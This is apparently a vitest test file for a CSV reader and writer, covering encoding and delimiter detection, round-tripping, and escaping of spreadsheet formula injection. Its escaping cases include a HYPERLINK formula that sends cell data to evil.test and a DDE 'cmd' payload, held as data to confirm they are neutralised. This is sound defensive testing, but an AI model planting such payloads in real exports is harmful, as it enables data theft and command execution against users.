import { expect, test } from "vitest";
import { decodeCsv, detectDelimiter, readCsv, writeCsv } from "./csv";

const windows1252 = (text: string) =>
  Uint8Array.from([...text].map((char) => (char === "é" ? 0xe9 : char === "è" ? 0xe8 : char.charCodeAt(0))));

test("UTF-8 with a BOM is read as UTF-8, the BOM dropped", () => {
  const bytes = new TextEncoder().encode("\ufeffname;room\nposte;Salle polyvalente é\n");
  expect(decodeCsv(bytes)).toEqual({ text: "name;room\nposte;Salle polyvalente é\n", encoding: "utf-8" });
});

test("Windows-1252 (an é as one byte) is recognised and decoded", () => {
  const table = readCsv(windows1252("name;room\nposte;Bâtiment é\nposte2;Réserve\n".replace("â", "a")));
  expect(table.encoding).toBe("windows-1252");
  expect(table.rows.map((row) => row.cells[1])).toEqual(["Batiment é", "Réserve"]);
});

test.each([
  ["name;class;room\n", ";"],
  ["name,class,room\n", ","],
  ["name\tclass\n", "\t"],
  ['"a;b",c,d\n', ","],
  ["name\n", ";"],
  ["a;b,c\n", ";"],
])("delimiter of %j is %j", (text, expected) => {
  expect(detectDelimiter(text)).toBe(expected);
});

test("rows keep their line numbers; empty lines are skipped; quoted commas stay in their cell", () => {
  const table = readCsv(new TextEncoder().encode('name,model\npc1,"OptiPlex 3020, SFF"\n\npc2,HP\n'));
  expect(table.delimiter).toBe(",");
  expect(table.rows).toEqual([
    { line: 2, cells: ["pc1", "OptiPlex 3020, SFF"] },
    { line: 4, cells: ["pc2", "HP"] },
  ]);
});

test("what we write reads back the same", () => {
  const rows = [
    ["name", "notes"],
    ["pc;1", 'dit "neuf"'],
    ["pc2", null],
  ];
  const written = writeCsv(rows);
  expect(written.startsWith("\ufeffname;notes\r\n")).toBe(true);
  expect(readCsv(new TextEncoder().encode(written)).rows.map((row) => row.cells)).toEqual([
    ["pc;1", 'dit "neuf"'],
    ["pc2", ""],
  ]);
});

const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")';

test.each([
  { text: HYPERLINK, written: `"'=HYPERLINK(""http://evil.test/?x=""&A1,""Cliquez"")"` },
  { text: "+33 1 23 45 67 89", written: "'+33 1 23 45 67 89" },
  { text: "-12", written: "'-12" },
  { text: "-2+3+cmd|' /C calc'!A0", written: "'-2+3+cmd|' /C calc'!A0" },
  { text: "@SUM(A1:A2)", written: "'@SUM(A1:A2)" },
  { text: "\t=1+1", written: "'\t=1+1" },
  { text: "\r=1+1", written: `"'\r=1+1"` },
  { text: "'=1+1", written: "''=1+1" },
  { text: "'quoted", written: "'quoted" },
  { text: "\uFF1DHYPERLINK(1)", written: "'\uFF1DHYPERLINK(1)" },
  { text: "ligne 1\nligne 2", written: `"ligne 1\nligne 2"` },
  { text: "Salle 12 = B", written: "Salle 12 = B" },
  { text: "a-b", written: "a-b" },
  { text: "", written: "" },
])("$text is written as $written and reads back as it was", ({ text, written }) => {
  const file = writeCsv([["name"], [text]], { bom: false });
  expect(file).toBe(`name\r\n${written}\r\n`);
  expect(readCsv(new TextEncoder().encode(`name;x\r\n${written};x\r\n`)).rows[0]!.cells[0]).toBe(text);
});

test("numbers are written as numbers, a negative one included", () => {
  expect(writeCsv([[-12, 3.5, 0]], { bom: false })).toBe("-12;3.5;0\r\n");
});

test("a file a person wrote keeps its texts, but loses the ' a spreadsheet user put before a formula character", () => {
  const table = readCsv(new TextEncoder().encode("name;notes\n'-12;l'écran\nposte;'@note\n"));
  expect(table.rows.map((row) => row.cells)).toEqual([
    ["-12", "l'écran"],
    ["poste", "@note"],
  ]);
});
